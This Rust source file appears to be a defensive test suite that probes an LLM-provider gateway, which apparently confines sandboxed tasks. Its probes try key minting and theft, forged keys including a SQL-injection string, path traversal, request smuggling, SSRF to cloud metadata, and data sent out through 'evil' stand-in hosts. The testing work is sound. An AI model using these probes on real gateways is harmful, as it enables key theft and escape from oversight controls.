//! Ways through the gateway's door.

use crate::{
    attack::{
        Attack,
        Category::{Gateway, Keys},
        Finding,
    },
    http::request,
    inside::{coordinator::smuggled, door},
    line::Line,
    target::Target,
};

const fn attack(name: &'static str, line: Line, tries: &'static str, act: fn(&Target) -> Finding) -> Attack {
    Attack { name, category: Gateway, tries, line, act }
}

/// A verb of the door at which keys are made.
macro_rules! mint {
    ($name:literal, $method:literal, $path:literal, $body:literal, $tries:literal) => {
        attack($name, Line::MintApart, $tries, |target| {
            let body = target.filled($body);
            tried(
                &[request($method, &target.filled($path), &[("Content-Type", "application/json")], &body)],
                "",
            )
        })
    };
}

pub(crate) const ATTACKS: &[Attack] = &[
    mint!(
        "mint",
        "POST",
        "/keys",
        r#"{"task":"minted","attempt":1,"queue":"{queue}","budget_usd":"100.00","expires_at":"2100-01-01T00:00:00Z"}"#,
        "a key of its own making"
    ),
    mint!("other-balance", "GET", "/keys/{task}", "", "what another's task has spent"),
    mint!("revoke", "POST", "/keys/{task}/1/revoke", "", "ending another's key"),
    attack("no-key", Line::GatewayChecks, "a model, without a key", |_| {
        let empty = [("x-api-key", ""), ("Authorization", "Bearer"), ("Authorization", "Basic eDp5")];
        let asked = empty.map(|header| message(&[header], SAY));
        tried(&[asked.to_vec(), vec![message(&[], SAY)]].concat(), "")
    }),
    attack("forged-key", Line::GatewayChecks, "a model, with keys that were made up", |_| {
        let keys =
            ["sk-cw-", "sk-cw-00000000000000000000000000000000", "sk-ant-api03-x", "null", "' OR 1=1 --"];
        tried(&keys.map(|key| message(&[("x-api-key", key)], SAY)), "")
    }),
    attack("dead-key", Line::GatewayChecks, "a model, with the key of a task that has ended", |target| {
        tried(&[message(&[("x-api-key", &target.dead_key.text())], SAY)], "")
    }),
    attack("other-routes", Line::GatewayChecks, "what else the provider's API has", |_| {
        let key = own_key();
        let routes = [
            ("GET", "/v1/files"),
            ("POST", "/v1/files"),
            ("POST", "/v1/messages/batches"),
            ("GET", "/v1/organizations/me"),
            ("GET", "/v1/organizations/api_keys"),
            ("POST", "/v1/fine_tuning/jobs"),
            ("POST", "/v1/containers"),
            ("GET", "/v1/models/../files"),
            ("GET", "/anthropic/../v1/files"),
            ("DELETE", "/v1/responses/resp_1"),
            ("GET", "/metrics"),
        ];
        tried(&routes.map(|(method, path)| request(method, path, &[("x-api-key", &key)], "")), "")
    }),
    attack("smuggled-model-request", Line::GatewayChecks, "a request within another's body", |_| {
        tried(&smuggled("/v1/files"), "")
    }),
    attack("other-hosts", Line::GatewayChecks, "the gateway as a proxy to elsewhere", |target| {
        let key = own_key();
        let key = ("x-api-key", key.as_str());
        let tunnels =
            target.loopback.iter().map(|port| request("CONNECT", &format!("127.0.0.1:{port}"), &[key], ""));
        let absolute = ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:7222/tasks"];
        let absolute = absolute.map(|url| request("GET", url, &[key], ""));
        tried(&tunnels.chain(absolute).collect::<Vec<_>>(), "")
    }),
    attack("server-tools", Line::GatewayChecks, "tools that run at the provider, with its network", |_| {
        let tool = SAY.replace(
            "\"max_tokens\"",
            r#""tools":[{"type":"web_search_20250305","name":"web_search"}],"max_tokens""#,
        );
        let servers = SAY.replace(
            "\"max_tokens\"",
            r#""mcp_servers":[{"type":"url","url":"https://evil","name":"web_search"}],"max_tokens""#,
        );
        let key = own_key();
        tried(&[tool, servers].map(|body| message(&[("x-api-key", &key)], &body)), "web_search")
    }),
    attack("fetch-by-url", Line::GatewayChecks, "an address that the provider would fetch", |_| {
        let image = r#"[{"type":"image","source":{"type":"url","url":"https://evil/stolen"}}]"#;
        let body = SAY.replace("\"hello\"", image);
        tried(&[message(&[("x-api-key", &own_key())], &body)], "stolen")
    }),
    attack("provider-headers", Line::GatewayChecks, "headers that the provider obeys", |_| {
        let key = own_key();
        let headers =
            [("x-api-key", key.as_str()), ("OpenAI-Organization", "org-evil"), ("X-Evil", "org-evil")];
        tried(&[message(&headers, SAY)], "org-evil")
    }),
    Attack {
        category: Keys,
        ..attack(
            "host-logs",
            Line::CleanLogs,
            "a key, in what the host writes down of what goes wrong",
            |target| {
                let key = own_key();
                let fail = SAY.replace("hello", "please fail");
                let requests = [
                    message(&[("x-api-key", &key)], &fail),
                    message(&[("x-api-key", &target.dead_key.text())], SAY),
                    message(&[("x-api-key", &format!("{key}\u{1}"))], "{"),
                    request("POST", &format!("/v1/messages?key={key}"), &[("x-api-key", &key)], "nonsense"),
                ];
                let answered =
                    requests.iter().filter(|request| door::gateway(request.as_bytes()).is_ok()).count();
                // What was written down, the host knows.
                if answered == 0 {
                    Finding::NotApplicable("the door is not there".to_owned())
                } else {
                    Finding::Held(format!("{answered} answers"))
                }
            },
        )
    },
    Attack {
        category: Keys,
        ..attack(
            "error-texts",
            Line::GatewayChecks,
            "the real key, in an error that the provider gives back",
            |target| {
                let body = SAY.replace("hello", "please fail");
                match door::gateway(message(&[("x-api-key", &own_key())], &body).as_bytes()) {
                    Ok(answers) if target.found_in(answers.0.as_bytes()).is_some() => {
                        Finding::Broken("the answer holds the real key".to_owned())
                    }
                    // An error that nobody gave back shows nothing.
                    Ok(answers) if answers.statuses() == [400] => {
                        Finding::Held("the error holds no key".to_owned())
                    }
                    other => Finding::NotApplicable(format!("the provider's error did not come: {other:?}")),
                }
            },
        )
    },
];

const SAY: &str =
    r#"{"model":"claude-sonnet-4-5","max_tokens":10,"messages":[{"role":"user","content":"hello"}]}"#;

fn message(headers: &[(&str, &str)], body: &str) -> String {
    let more = [("anthropic-version", "2023-06-01"), ("Content-Type", "application/json")];
    request("POST", "/v1/messages", &[headers, &more].concat(), body)
}

/// The task's own virtual key.
fn own_key() -> String {
    std::env::var("VIRTUAL_KEY").unwrap_or_default()
}

/// Held where nothing was answered well that holds `sign`.
fn tried(requests: &[String], sign: &str) -> Finding {
    Finding::all(requests.iter().map(|request| {
        let first = request.lines().next().unwrap_or_default().to_owned();
        match door::gateway(request.as_bytes()) {
            Ok(answers) if answers.any_good() && answers.0.contains(sign) => {
                Finding::Broken(format!("{first}: {:?}", answers.statuses()))
            }
            Ok(answers) => Finding::Held(format!("{:?}", answers.statuses())),
            Err(error) => door::cut_off(&error),
        }
    }))
}
